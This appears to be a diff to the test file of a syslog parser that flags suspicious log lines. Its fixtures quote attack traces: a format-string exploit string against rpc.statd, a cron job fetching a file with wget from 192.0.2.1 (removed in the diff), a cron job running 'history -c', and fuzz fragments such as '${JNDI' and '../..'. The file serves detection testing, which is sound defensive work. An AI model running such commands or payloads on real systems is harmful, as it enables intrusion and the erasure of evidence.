@@ -5,6 +5,7 @@ import { visibleText } from '../../../source/core/visible.ts';
 import { logFormats } from '../../../source/parsers/logs/index.ts';
 import { dmesg } from '../../../source/parsers/logs/dmesg.ts';
 import { isoSyslog } from '../../../source/parsers/logs/iso-syslog.ts';
+import { isHeard, type Said } from '../../../source/parsers/logs/messages/said.ts';
 import { lineScan, LiteralTable } from '../../../source/parsers/logs/line-scan.ts';
 import type { StreamFormat } from '../../../source/parsers/logs/log-format.ts';
 import { rfc3164 } from '../../../source/parsers/logs/rfc3164.ts';
@@ -87,15 +88,15 @@ describe('what lines say', () => {
 		['rpc.statd[1]: gethostbyname error for ^X%8x%8x%8x%8x%n', { kind: 'other', facts: { exploit: 'format-string' } }],
 	])('%s', (text, wanted) => {
 		for (const wants of ['everything', 'signs'] as const) {
-			if (wants === 'signs' && wanted.kind === 'scheduled') continue;
+			if (wants === 'signs' && !isHeard(wanted as Said)) continue;
 			expect(readText(rfc3164, `Jan 18 08:30:20 h ${text}\n`, { wants }).events[0]).toMatchObject(wanted);
 		}
 	});
 
-	test('what cron ran is passed over where signs are asked for, but for an edited table and a literal of an attack', () => {
-		const lines = ['CRON[1]: (root) CMD (run-parts /etc/cron.hourly)', 'CRON[1]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)', 'crontab[2]: (eve) REPLACE (eve)', 'CRON[1]: (eve) CMD (wget http://192.0.2.1/x)'];
+	test('what cron ran is heard where signs are asked for, its sessions and edited tables are not', () => {
+		const lines = ['CRON[1]: (root) CMD (run-parts /etc/cron.hourly)', 'CRON[1]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)', 'crontab[2]: (eve) REPLACE (eve)', 'CRON[1]: (eve) CMD (history -c)'];
 		const { events, tally } = readText(rfc3164, lines.map(line => `Jan 18 08:30:20 h ${line}\n`).join(''), { wants: 'signs' });
-		expect(events.map(({ words }) => words)).toEqual(['crontab: (eve) REPLACE (eve)', 'CRON: (eve) CMD (wget http://192.0.2.1/x)']);
+		expect(events.map(({ words }) => words)).toEqual(['CRON: (root) CMD (run-parts /etc/cron.hourly)', 'CRON: (eve) CMD (history -c)']);
 		expect(tally.records).toBe(4);
 	});
 });
@@ -132,7 +133,7 @@ describe('bad input', () => {
 			fc.property(fc.array(fc.constantFrom('%N%n', 'pRomi', '../..', '${JNDI', '\n', '\0', 'x', 'é', ' '.repeat(9)), { maxLength: 60 }), parts => {
 				const text = Buffer.from(parts.join(''), 'latin1');
 				const [fast, slow] = [true, false].map(vectors => {
-					const scan = lineScan(literals, { vectors });
+					const scan = lineScan(table, { vectors });
 					scan.bytes.fill(1).set(text);
 					scan.scan(0, text.length);
 					return { zeros: scan.zeros, lines: [...scan.ends.subarray(0, scan.lines)].filter(at => at < text.length), hits: [...scan.hits.subarray(0, scan.hitCount)].filter(at => at < text.length && table.at(scan.bytes, at) !== 0) };
